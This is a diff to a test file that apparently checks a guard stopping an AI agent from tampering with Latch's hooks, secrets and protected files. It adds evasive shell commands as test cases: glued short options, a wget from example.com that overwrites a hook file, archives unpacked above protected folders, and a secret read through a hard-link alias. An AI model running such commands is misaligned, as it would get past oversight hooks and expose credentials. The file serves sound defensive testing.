@@ -438,6 +438,29 @@ describe('self-protection: commands', () => {
     ['latch request --title deploy', undefined],
     ['cat ~/$x', undefined],
     ['cat $(echo fi5sYXRjaAo= | base64 -d)/config.toml', undefined],
+    // Review R2: a file glued to a short option, after any flags (as getopt reads it).
+    ['grep -fx README.md', 'secrets'],
+    ['date -uf./x', 'secrets'],
+    ['sort -oclaude-link /tmp/evil', 'hooks'],
+    ['wget -Oclaude-link http://example.com/x', 'hooks'],
+    ['sort -onew-policy /tmp/evil', 'files'],
+    ['tar -xf a.tar -C..', 'files'],
+    ['tar -xf a.tar --directory=..', 'files'],
+    ['tar -xfa.tar -Cconf', 'files'],
+    ['7z x a.7z -o..', 'secrets'],
+    // Archives unpacked into a folder above Latch's files.
+    ['unzip a.zip -d ..', 'files'],
+    ['unzip a.zip -d ~', 'files'],
+    ['cpio -idD ~', 'files'],
+    // Another name for a secret, which no path shows (a hard link), read by any program.
+    ['git diff key-copy.json README.md', 'secrets'],
+    ['cat key-copy.json', 'secrets'],
+    // Ordinary flags stay unasked.
+    ['tar -xzf build.tgz -C dist', undefined],
+    ['unzip release.zip -d dist', undefined],
+    ['grep -rn TODO src', undefined],
+    ['head -n5 README.md', undefined],
+    ['sort -k2 -t, data.csv', undefined],
   ])('%s', (command, guard) => {
     expect(judged(bash(command))).toEqual(expected(guard));
   });
